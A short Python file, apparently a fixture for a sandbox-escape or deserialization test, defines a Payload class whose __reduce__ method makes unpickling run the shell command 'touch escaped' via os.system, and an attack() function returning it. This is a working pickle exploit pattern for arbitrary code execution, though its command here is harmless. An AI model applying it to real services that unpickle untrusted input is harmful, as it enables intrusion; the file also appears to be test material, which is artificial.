"""Answers with an object that runs a command if it is unpickled."""

import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch escaped",)


def attack(argument):
    return Payload()
